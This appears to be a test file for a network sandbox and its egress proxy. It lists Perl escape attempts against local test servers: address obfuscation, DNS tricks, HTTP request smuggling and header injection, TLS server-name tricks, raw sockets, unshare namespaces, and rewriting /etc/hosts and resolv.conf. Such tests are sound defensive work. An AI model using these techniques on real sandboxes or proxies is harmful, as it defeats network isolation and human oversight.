import { greeting, type TestServers } from "./servers.ts"

/** One try to get out: perl code that says what came back, see `prelude`. */
export type Escape = readonly [name: string, code: string]

/** Functions for the code of an escape, without any module: an image may have none. What prints `escaped` has got out; so has whoever reaches a server. */
export const prelude = `
$| = 1; $SIG{PIPE} = "IGNORE";
my $EOL = "\\r\\n";
sub sent { my ($socket, $text) = @_;
  my $reply = "";
  eval { local $SIG{ALRM} = sub { die }; alarm 3; syswrite($socket, $text) if length $text;
    while (sysread($socket, my $part, 4096)) { $reply .= $part; last if length $reply > 8192 } }; alarm 0; $reply }
sub dialed { my ($port, @address) = @_;
  my $made; eval { local $SIG{ALRM} = sub { die }; alarm 3; socket(my $socket, 2, 1, 6) or die;
    connect($socket, pack("S n C4 x8", 2, $port, @address)) or die; $made = $socket }; alarm 0; $made }
sub direct { my ($address, $port, $text) = @_; my $socket = dialed($port, split /\\./, $address); $socket ? sent($socket, $text) : "" }
sub proxy { direct("127.0.0.1", 3128, $_[0]) }
sub tunnel { my ($to, $payload) = @_; my $socket = dialed(3128, 127, 0, 0, 1) or return ""; syswrite($socket, "CONNECT $to HTTP/1.1\${EOL}Host: $to$EOL$EOL$payload"); sent($socket, "") }
sub socks { my ($address, $port, $payload) = @_; my $socket = dialed(3128, 127, 0, 0, 1) or return ""; sent_part($socket, "\\5\\1\\0", 2); my $reply = sent_part($socket, "\\5\\1\\0" . $address . pack("n", $port), 10); sent($socket, $payload) . $reply }
sub sent_part { my ($socket, $text, $count) = @_; my $reply = ""; eval { local $SIG{ALRM} = sub { die }; alarm 3; syswrite($socket, $text); sysread($socket, $reply, $count) }; alarm 0; $reply // "" }
sub names { opendir(my $directory, $_[0]) or return (); readdir $directory }
sub looked_up { my @found = gethostbyname($_[0]); @found ? join(".", unpack("C4", $found[4])) : "" }
sub request { my ($target, $host, @more) = @_; "GET $target HTTP/1.1\${EOL}Host: $host$EOL" . join("", map { "$_$EOL" } @more) . "Connection: close$EOL$EOL" }
sub result { my ($name, $reply) = @_; $reply = "" unless defined $reply; $reply =~ s/[^ -~]+/ /g; print "$name: " . substr($reply, 0, 200) . "\\n" }
`

/** Ways out of a sandbox, in ten classes. */
export const escapes = (servers: TestServers): Readonly<Record<string, ReadonlyArray<Escape>>> => {
  const { allowed, tls, forbidden, datagrams, abstract, addresses } = servers
  const get = (target: string, host: string, ...more: ReadonlyArray<string>): string =>
    `proxy(request(${[target, host, ...more].map(quoted).join(", ")}))`
  const through = (authority: string): string => `tunnel(${quoted(authority)}, request("/", "forbidden.test"))`
  const tlsTo = (hello: string): string => `tunnel("tls.test:${tls}", pack("H*", "${hello}"))`
  const own = addresses.find((address) => address !== "127.0.0.1") ?? "127.0.0.1"
  return {
    "address forms": [
      ...[
        "127.0.0.1",
        "0x7f.1",
        "2130706433",
        "0177.0.0.1",
        "127.1",
        "0",
        "[::1]",
        "[::ffff:127.0.0.1]",
        "localhost",
        "LOCALHOST.",
        own
      ].map((host): Escape => [`CONNECT ${host}`, through(`${host}:${forbidden}`)]),
      ["an address in the URL", get(`http://127.0.0.1:${forbidden}/`, `127.0.0.1:${forbidden}`)],
      ["SOCKS with an address", `socks("\\1\\x7f\\0\\0\\1", ${forbidden}, request("/", "a"))`],
      ["SOCKS with an IPv6 address", `socks("\\4" . ("\\0" x 15) . "\\1", ${forbidden}, request("/", "a"))`]
    ],
    DNS: [
      ["a name with private and public addresses", get("http://mixed.test/", "mixed.test")],
      ["a name with a private address", get("http://private.test/", "private.test")],
      ["a name with a mapped address", through("mapped.test:443")],
      ["a name with a NAT64 address", through("nat64.test:443")],
      ["a name server of the host", `datagram("${own}", ${datagrams})`],
      ["DNS over TCP", `direct("127.0.0.1", 53, "\\0\\20" . ("\\1" x 16)) ? "escaped" : ""`],
      ["data in a name", `looked_up("stolen-data.allowed.test"); ""`],
      [
        "the stand-in of a forbidden name",
        `direct(looked_up("forbidden.test"), ${forbidden}, request("/", "forbidden.test"))`
      ]
    ],
    redirects: [
      `http://forbidden.test:${forbidden}/`,
      `http://127.0.0.1:${forbidden}/`,
      `//forbidden.test:${forbidden}/`,
      `http://allowed.test:${allowed}@forbidden.test:${forbidden}/`,
      `http://${own}:${forbidden}/`
    ].map((target): Escape => [
      `a redirect to ${target}`,
      `my ($to) = ${get(`http://allowed.test:${allowed}/to/${encodeURIComponent(target)}`, `allowed.test:${allowed}`)} =~ /location: (\\S+)/i;
         $to = "http:$to" if $to =~ m{^//}; my ($host) = $to =~ m{//([^/]+)}; proxy(request($to, $host))`
    ]),
    "proxy headers": [
      ["another Host", get(`http://allowed.test:${allowed}/`, `forbidden.test:${forbidden}`)],
      [
        "two Hosts",
        get(`http://allowed.test:${allowed}/`, `allowed.test:${allowed}`, `Host: forbidden.test:${forbidden}`)
      ],
      ["another address", get(`http://forbidden.test:${forbidden}/`, `allowed.test:${allowed}`)],
      [
        "a user name that looks like a host",
        get(`http://allowed.test:${allowed}@forbidden.test:${forbidden}/`, "forbidden.test")
      ],
      ["a path for an address", get("/", `forbidden.test:${forbidden}`)],
      [
        "a second request in the same connection",
        `proxy("GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}$EOL$EOL" . request("http://forbidden.test:${forbidden}/", "forbidden.test:${forbidden}"))`
      ],
      [
        "a length and an encoding",
        `proxy("POST http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}\${EOL}Content-Length: 4\${EOL}Transfer-Encoding: chunked$EOL$\{EOL}0$EOL$EOL" . request("/", "forbidden.test"))`
      ],
      [
        "a bare line feed",
        `proxy("GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}X: a\\nHost: forbidden.test:${forbidden}\${EOL}Host: allowed.test:${allowed}$EOL$EOL")`
      ],
      [
        "CONNECT with another Host",
        `proxy("CONNECT forbidden.test:${forbidden} HTTP/1.1\${EOL}Host: allowed.test:${allowed}$EOL$EOL" . request("/", "a"))`
      ],
      [
        "a request for another host after an upgrade that the server ignores",
        `my $s = dialed(3128, 127, 0, 0, 1); sent_part($s, "GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}\${EOL}Upgrade: websocket\${EOL}Connection: Upgrade$EOL$EOL", 4096); sent($s, request("/", "forbidden.test:${forbidden}"))`
      ],
      [
        "HTTP/2 with prior knowledge",
        `proxy("PRI * HTTP/2.0$EOL\${EOL}SM$EOL$EOL" . pack("H*", "000000040000000000"))`
      ],
      [
        "HTTP/2 inside a connection for HTTP",
        `tunnel("private.test:80", "PRI * HTTP/2.0$EOL\${EOL}SM$EOL$EOL" . pack("H*", "000000040000000000"))`
      ],
      [
        "line breaks in an address",
        `proxy("GET http://allowed.test:${allowed}/%0d%0aHost:%20forbidden.test HTTP/1.1\${EOL}Host: allowed.test:${allowed}\r$EOL$EOL")`
      ],
      [
        "line breaks in the host of CONNECT",
        `proxy("CONNECT allowed.test:${allowed}\r\nHost:forbidden.test:${forbidden} HTTP/1.1\${EOL}Host: forbidden.test:${forbidden}$EOL$EOL")`
      ],
      [
        "a line that continues the one before",
        `proxy("GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}\${EOL} .forbidden.test$EOL$EOL")`
      ],
      [
        "a header of two megabytes",
        `proxy("GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}\${EOL}X: " . ("x" x 2097152) . "\${EOL}Host: forbidden.test$EOL$EOL")`
      ],
      ["an address with https", get(`https://forbidden.test:${forbidden}/`, `forbidden.test:${forbidden}`)],
      [
        "an upgrade to another host",
        get(
          `http://forbidden.test:${forbidden}/`,
          `forbidden.test:${forbidden}`,
          "Upgrade: websocket",
          "Connection: Upgrade"
        )
      ]
    ],
    TLS: [
      ["another server name", tlsTo(greeting(["forbidden.test"]))],
      ["no server name", tlsTo(greeting([]))],
      ["two server names", tlsTo(greeting(["tls.test", "forbidden.test"]))],
      ["a server name in small records", tlsTo(greeting(["forbidden.test"], 3))],
      ["a server name that begins alike", tlsTo(greeting(["tls.test.forbidden.test"]))],
      ["a malformed greeting", tlsTo(`${greeting(["tls.test"]).slice(0, 20)}${"ff".repeat(80)}`)],
      ["a record of another kind", tlsTo(`160301000417030100${greeting(["tls.test"])}`)]
    ],
    sockets: [
      [
        "TCP to the host",
        addresses.map((address) => `direct("${address}", ${forbidden}, request("/", "a"))`).join(" . ")
      ],
      ["UDP to the host", `datagram("${own}", ${datagrams}); datagram("127.0.0.1", ${datagrams})`],
      ["an abstract socket", `socket(my $s, 1, 1, 0); connect($s, pack("S a*", 1, "\\0${abstract}")) ? "escaped" : ""`],
      ["a raw socket", `socket(my $s, 2, 3, 1) ? "escaped" : ""`],
      ["a packet socket", `socket(my $s, 17, 3, 0) ? "escaped" : ""`],
      ["a vsock", `socket(my $s, 40, 1, 0) ? "escaped" : ""`],
      [
        "UDP through SOCKS",
        `my $s = dialed(3128, 127, 0, 0, 1); sent_part($s, "\\5\\1\\0", 2); my $r = sent_part($s, "\\5\\3\\0\\1\\0\\0\\0\\0\\0\\0", 10); ord(substr($r . "\\0\\1", 1, 1)) == 0 ? "escaped" : ""`
      ],
      ["SOCKS 4", `proxy("\\4\\1" . pack("n", ${forbidden}) . "\\x7f\\0\\0\\1\\0") =~ /^\\0\\x5a/ ? "escaped" : ""`]
    ],
    namespaces: [
      ["a new network namespace", `system("unshare -n true 2>/dev/null") == 0 ? "escaped" : ""`],
      ["a new user namespace", `system("unshare -Urn true 2>/dev/null") == 0 ? "escaped" : ""`],
      [
        "a route",
        `system("ip route add default dev lo 2>/dev/null") == 0 && direct("${own}", ${forbidden}, "") ? "escaped" : ""`
      ],
      [
        "an address of the host on the loopback",
        `socket(my $s, 2, 2, 0); my $d = pack("a16 S n C4 x8", "lo:2", 2, 0, 10, 9, 8, 7); ioctl($s, 0x8916, $d) ? "escaped" : ""`
      ],
      [
        "the namespace of another process",
        `my $n = 0; for my $p (map { "/proc/$_/ns/net" } grep { /^[0-9]+$/ } names("/proc")) { $n++ if (readlink($p) // "") ne "" && readlink($p) ne readlink("/proc/self/ns/net") } $n ? "escaped" : ""`
      ]
    ],
    descriptors: [
      [
        "an inherited socket",
        `join("", map { readlink($_) // "" } map { my $at = $_; map { "$at/$_" } names($at) } "/proc/self/fd", "/proc/1/fd") =~ /socket:/ ? "escaped" : ""`
      ],
      [
        "a socket file",
        "my $found = `find /run /var /tmp / -xdev -type s 2>/dev/null | head -3`; $found ne '' ? 'escaped' : ''"
      ],
      [
        "the port of the proxy",
        `socket(my $s, 2, 1, 6); setsockopt($s, 1, 15, pack("i", 1)); setsockopt($s, 1, 2, pack("i", 1)); bind($s, pack("S n C4 x8", 2, 3128, 127, 0, 0, 1)) ? "escaped" : ""`
      ],
      [
        "the port of the name server",
        `socket(my $s, 2, 2, 17); setsockopt($s, 1, 15, pack("i", 1)); bind($s, pack("S n C4 x8", 2, 53, 127, 0, 0, 1)) ? "escaped" : ""`
      ],
      [
        "a variable about the relay",
        `join(" ", %ENV) =~ /HAFT_NETWORK/ || do { open(my $e, "<", "/proc/1/environ"); local $/; (<$e> // "") =~ /HAFT_NETWORK/ } ? "escaped" : ""`
      ]
    ],
    environment: [
      [
        "no proxy variables",
        `delete $ENV{$_} for grep { /proxy/i } keys %ENV; direct(looked_up("forbidden.test"), ${forbidden}, request("/", "forbidden.test"))`
      ],
      ["another proxy", `direct("${own}", ${forbidden}, request("http://allowed.test/", "allowed.test"))`],
      [
        "another name server",
        `my $r; open($r, ">", "/etc/resolv.conf") and print $r "nameserver ${own}\\n" and close $r; looked_up("leak.forbidden.test"); ""`
      ],
      [
        "a line in the hosts file",
        `my $h; open($h, ">>", "/etc/hosts") and print $h "${own} allowed.test\\n" and close $h; direct(looked_up("allowed.test"), ${forbidden}, request("/", "a"))`
      ],
      [
        "aliases of hosts",
        `$ENV{HOSTALIASES} = "aliases"; open(my $a, ">", "aliases"); print $a "alias forbidden.test\\n"; close $a; direct(looked_up("alias"), ${forbidden}, request("/", "a"))`
      ]
    ],
    races: [
      ["data before the answer", `tunnel("forbidden.test:${forbidden}", request("/", "a") x 3)`],
      [
        "many at once",
        `my @p = map { my $pid = fork(); if (!$pid) { tunnel("forbidden.test:${forbidden}", "x"); exit 0 } $pid } 1..20; waitpid($_, 0) for @p; ""`
      ],
      [
        "an allowed and a forbidden request together",
        `my $s = dialed(3128, 127, 0, 0, 1); syswrite($s, "GET http://allowed.test:${allowed}/ HTTP/1.1\${EOL}Host: allowed.test:${allowed}$EOL$EOL"); syswrite($s, request("http://forbidden.test:${forbidden}/", "forbidden.test:${forbidden}")); my $r = sent($s, ""); $r =~ /escaped/ ? "escaped" : ""`
      ],
      [
        "a client that leaves while it is decided",
        `for (1..20) { my $s = dialed(3128, 127, 0, 0, 1) or next; syswrite($s, "CONNECT forbidden.test:${forbidden} HTTP/1.1$EOL$EOL"); close $s } ""`
      ],
      [
        "a process that outlives the command",
        `if (!fork()) { sleep 1; tunnel("allowed.test:${allowed}", request("/", "late.test")); exit 0 } ""`
      ]
    ]
  }
}

const quoted = (text: string): string => `"${text.replaceAll(/([\\"$@])/g, "\\$1")}"`
